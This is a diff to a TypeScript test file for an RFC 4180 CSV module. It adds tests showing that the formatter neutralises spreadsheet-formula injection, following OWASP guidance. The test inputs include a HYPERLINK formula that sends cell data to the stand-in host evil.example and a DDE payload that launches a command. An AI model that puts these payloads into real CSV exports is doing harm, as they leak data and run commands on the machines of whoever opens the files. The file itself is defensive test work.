@@ -1,6 +1,6 @@
 // The reference is RFC 4180 (https://www.rfc-editor.org/rfc/rfc4180, §2 rules 1–7); each
 // expected value below is written out by hand from those rules, not produced by the parser.
-import { CSV_RECORD_END, CsvSyntaxError, csvRow, formatCsv, parseCsv, parseCsvRecords } from './csv';
+import { CSV_RECORD_END, CsvSyntaxError, csvRow, formatCsv, neutraliseFormula, parseCsv, parseCsvRecords } from './csv';
 
 describe('parseCsv (RFC 4180)', () => {
   it('keeps commas, doubled quotes and newlines inside quoted fields (rules 5–7)', () => {
@@ -92,5 +92,33 @@ describe('formatCsv and csvRow (RFC 4180, CRLF)', () => {
     ];
     expect(parseCsv(formatCsv(records))).toEqual(records);
     expect(records.map((r) => csvRow(r)).join('')).toBe(formatCsv(records));
+  });
+});
+
+// OWASP "CSV Injection": a cell beginning with =, +, -, @, tab or CR is run as a formula by
+// Excel, LibreOffice and Google Sheets; the listed mitigation is a leading single quote.
+describe('spreadsheet formulas in CSV (OWASP CSV injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
+    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+  ])('writes the text %j with a leading quote as %j', (input, expected) => {
+    expect(csvRow([input])).toBe(`${expected}\r\n`);
+  });
+
+  it.each(['-1.5', '+2', '-3e-7', '.5', 'a=b', ' =x', "'=x"])('leaves %j as it is (a number, or no formula start)', (input) => {
+    expect(neutraliseFormula(input)).toBe(input);
+  });
+
+  it('writes negative numbers as numbers', () => {
+    expect(csvRow([-0.25, -3, 'team'])).toBe('-0.25,-3,team\r\n');
+  });
+
+  it("keeps formula-like text exactly when asked to (data files Podium reads back)", () => {
+    expect(csvRow(['=1', '-x'], { formulas: 'keep' })).toBe('=1,-x\r\n');
+    expect(parseCsv(formatCsv([['=1', '@a']], { formulas: 'keep' }))).toEqual([['=1', '@a']]);
   });
 });
